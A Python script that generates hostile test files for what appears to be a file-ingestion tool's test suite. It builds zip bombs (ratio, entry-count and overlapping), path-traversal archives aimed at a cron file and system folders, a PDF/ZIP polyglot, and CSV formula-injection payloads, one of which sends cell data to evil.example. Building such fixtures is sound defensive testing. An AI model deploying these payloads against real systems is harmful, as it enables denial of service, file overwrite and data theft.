#!/usr/bin/env python3
"""Makes the generated files of this corpus (the `generated` rows of MANIFEST.tsv): hostile
archives and text that public corpora do not carry with a clear licence. Python's standard
library only; the output is deterministic (fixed timestamps), so re-running it changes nothing.

    python3 tests/documents/make.py
"""

import io
import os
import struct
import zipfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
STAMP = (2026, 1, 1, 0, 0, 0)


def info(name, method=zipfile.ZIP_DEFLATED):
    zi = zipfile.ZipInfo(name, STAMP)
    zi.compress_type = method
    zi.external_attr = 0o644 << 16
    return zi


def zip_of(entries):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in entries:
            z.writestr(info(name), data)
    return buf.getvalue()


def write(name, data):
    with open(os.path.join(HERE, name), "wb") as f:
        f.write(data)


def overlapping_bomb(copies, size):
    """David Fifield's non-recursive construction (https://www.bamsoftware.com/hacks/zipbomb/),
    reduced: one deflated run of zeros that every central-directory entry points at, so the
    file stays small while the declared total is copies x size."""
    data = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = data.compress(b"\0" * size) + data.flush()
    crc = zlib.crc32(b"\0" * size)
    name = b"0"
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x5C21, crc, len(packed), size, len(name), 0)
    body = local + name + packed
    central = b""
    for i in range(copies):
        n = str(i).encode()
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x5C21, crc, len(packed), size,
            len(n), 0, 0, 0, 0, 0o644 << 16, 0,
        ) + n
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, copies, copies, len(central), len(body), 0)
    return body + central + end


def main():
    # A 64 MiB run of zeros deflates about 1000:1 (one entry over 100:1).
    write("gen-bomb-ratio.zip", zip_of([("zeros.bin", b"\0" * (64 << 20))]))
    # 10,001 empty files: one entry over MAX_ARCHIVE_ENTRIES.
    write("gen-bomb-entries.zip", zip_of([(f"f{i:05}.txt", b"") for i in range(10001)]))
    # 200 entries sharing one 8 MiB deflated stream: 1.6 GB declared from ~8 KB.
    write("gen-bomb-overlap.zip", overlapping_bomb(200, 8 << 20))
    readme = b"hello from inside\n"
    inner = zip_of([("readme.txt", readme)])
    # One level of nesting: accepted.
    write("gen-nested-1.zip", zip_of([("notes.txt", b"outer\n"), ("inner.zip", inner)]))
    # Three levels: refused.
    write("gen-nested-3.zip", zip_of([("middle.zip", zip_of([("inner.zip", inner)]))]))
    # Names that escape the extraction folder.
    write("gen-traversal-backslash.zip", zip_of([("..\\..\\evil.bat", b"@echo off\r\n")]))
    write("gen-traversal-absolute.zip", zip_of([("/etc/cron.d/evil", b"* * * * * root id\n")]))
    write("gen-traversal-drive.zip", zip_of([("C:/Windows/evil.dll", b"MZ")]))
    # A PDF that is also a ZIP (a real PDF with a real archive appended).
    with open(os.path.join(HERE, "pypdf-crazyones.pdf"), "rb") as f:
        write("gen-polyglot-pdf-zip.pdf", f.read() + zip_of([("payload.txt", b"hidden\n")]))
    # Text that is not UTF-8, text with a NUL, a CSV whose quote never closes.
    write("gen-latin1.txt", "Café crème, déjà vu\n".encode("latin-1"))
    write("gen-nul.txt", b"line one\nline\0two\n")
    write("gen-unterminated.csv", b'name,comment\nada,"never closed\n')
    # Spreadsheet formula injection (payloads as OWASP's CSV Injection page lists them):
    # reported as formulaCells, not refused.
    write(
        "gen-formula-injection.csv",
        b"name,comment,amount\r\n"
        b"ada,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",10\r\n"
        b"bob,+cmd|' /C calc'!A0,-5\r\n"
        b"eve,@SUM(1+1)*cmd|' /C calc'!A0,7\r\n"
        b"mallory,safe,3\r\n",
    )


if __name__ == "__main__":
    main()
